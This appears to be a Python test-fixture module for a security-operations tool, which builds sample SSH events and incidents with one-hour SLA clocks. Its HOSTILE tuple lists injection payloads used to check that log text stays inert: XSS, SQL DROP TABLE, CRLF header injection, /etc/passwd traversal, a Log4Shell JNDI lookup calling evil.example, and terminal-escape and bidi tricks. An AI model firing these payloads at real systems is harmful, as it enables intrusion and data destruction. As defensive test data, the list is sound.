"""Events and incidents to talk about in tests: complete, harmless, and changed where a test says so."""

import itertools
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta

from soc_core.model.event import Course, Event, Priority
from soc_core.model.incident import Incident
from soc_core.model.sla import Clock, Move, Target, Tick

NOON = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
LABEL = "label"
SEVERITY = "severity"
HOSTILE = (
    "",
    "\x1b[2J\x1b[1;1Hall is well",
    "user=\u202etoor\u202c",
    "<script>alert(1)</script>",
    "<!channel> @channel @everyone [~admin] {code} [click](http://evil.example)",
    "'; DROP TABLE incident; --",
    "\r\nX-Injected: yes\r\n\r\n",
    "../../etc/passwd\x00.txt",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
    "\ufeff\u200b\U000e0041 ﷽ e\u0301\u0301\u0301",
    "A" * 5000,
)
"""Texts that a log may contain and that must do nothing anywhere."""

_numbers = itertools.count(1)


def sample_event(
    message: str = "Accepted password for root from 203.0.113.9 port 22 ssh2",
    *,
    source: str = "sshd",
    label: str | None = None,
    severity: float | None = None,
    received: datetime = NOON,
    **values: object,
) -> Event:
    """An event. With `label` and `severity` the engine of `soc_core.testing` finds just that in it."""
    stated = {name: value for name, value in ((LABEL, label), (SEVERITY, severity)) if value is not None}
    fields = values.pop("fields", {})
    known: Mapping[str, object] = fields if isinstance(fields, Mapping) else {}
    given: dict[str, object] = {"source": source, "message": message, "received": received, **values}
    return Event(**given, fields={**known, **stated})  # type: ignore[arg-type]  # attrs refuses what does not fit


def sample_incident(**values: object) -> Incident:
    """An incident with a running clock of one hour; each has an id and a marker of its own."""
    number = next(_numbers)
    severity = float(str(values.get("severity", 9.0)))
    began = Tick(move=Move.START, at=NOON)
    given: dict[str, object] = {
        "id": f"INC-{number}",
        "marker": f"soc-{number:020x}",
        "fingerprint": f"f{number}",
        "kind": Course.TICKET,
        "label": "Security Alert",
        "severity": severity,
        "priority": Priority.of(severity),
        "confidence": 0.9,
        "source": "sshd",
        "message": "Accepted password for root from 203.0.113.9 port 22 ssh2",
        "rule": "root-login",
        "reason": "root logged in from outside",
        "why": "severity 9 is at least 9",
        "actions": ("Ask the owner of the account.",),
        "first_seen": NOON,
        "last_seen": NOON,
        "detected_at": NOON,
        "opened_at": NOON,
        "clocks": {
            name: Clock(name=name, target=Target(duration=timedelta(hours=1)), history=(began,))
            for name in ("response", "resolution")
        },
    }
    return Incident(**{**given, **values})  # type: ignore[arg-type]  # attrs refuses what does not fit
